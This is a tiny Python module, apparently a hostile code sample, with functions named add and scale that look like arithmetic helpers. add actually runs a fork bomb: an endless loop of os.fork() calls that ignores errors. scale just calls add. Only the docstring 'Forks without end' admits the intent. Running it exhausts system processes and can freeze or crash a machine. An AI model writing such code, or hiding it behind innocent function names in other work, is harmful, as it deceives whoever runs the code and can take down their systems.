"""Forks without end."""
import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def scale(a, k):
    return add(a, k)
